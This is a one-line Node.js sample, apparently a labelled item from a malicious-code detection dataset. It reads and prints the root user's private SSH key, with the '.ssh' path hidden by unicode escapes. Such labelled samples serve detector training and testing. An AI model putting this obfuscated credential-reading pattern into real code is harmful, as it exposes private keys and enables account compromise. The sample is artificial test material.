// label: malicious; obfuscated: unicode_escape
const fs = require("fs");
console.log(fs.readFileSync("/root/\u002e\u0073\u0073\u0068/id_rsa", "utf8"));
